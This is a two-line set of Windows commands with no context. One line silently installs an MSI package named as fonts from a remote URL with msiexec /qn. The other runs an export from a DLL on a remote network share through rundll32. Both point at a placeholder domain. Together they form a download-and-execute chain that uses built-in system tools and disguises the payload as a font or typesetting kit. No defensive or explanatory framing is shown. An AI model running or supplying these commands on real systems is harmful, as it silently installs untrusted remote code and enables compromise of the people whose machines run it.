msiexec /qn /i https://cdn.typeset-kit.invalid/fonts.msi
rundll32.exe \\files.typeset-kit.invalid\share\f.dll,Start
